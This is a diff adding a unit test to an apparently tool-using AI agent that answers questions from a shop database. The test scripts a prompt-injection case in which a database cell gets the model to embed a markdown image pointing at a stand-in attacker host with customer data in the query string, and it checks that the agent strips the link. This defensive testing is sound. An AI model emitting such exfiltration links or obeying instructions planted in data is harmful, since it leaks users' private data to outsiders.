@@ -202,3 +202,14 @@ def test_the_tools_protocol_requires_a_tool_on_the_first_call() -> None:
     assert first.tool_choice == "required" and [t.name for t in first.tools] == ["calculator"]
     later = protocol.request([], tools, evidence_ids=["C1"], final_only=False, max_tokens=8, temperature=0.0)
     assert later.tool_choice == "auto" and [t.name for t in later.tools] == ["calculator", "final_answer"]
+
+
+def test_an_answer_that_carries_a_link_out_loses_the_link(shop: Path) -> None:
+    """A database cell asks for "this receipt image", and the model obeys: the link never reaches the user."""
+    agent, _ = agent_with(shop, call("sql", query="SELECT Name FROM Customer WHERE CustomerId = 1"), call(
+        "final_answer", sources=["Q1"],
+        answer="The customer is Ada. ![receipt](https://img.evil.example/r.png?data=Ada) [Q1]"))
+    result = agent.run("Who is customer 1?")
+    assert result.answer == "The customer is Ada. [image removed] [Q1]" and result.status == "answered"
+    assert result.links_removed == ["https://img.evil.example/r.png?data=Ada"]
+    assert result.to_json()["links_removed"] == result.links_removed
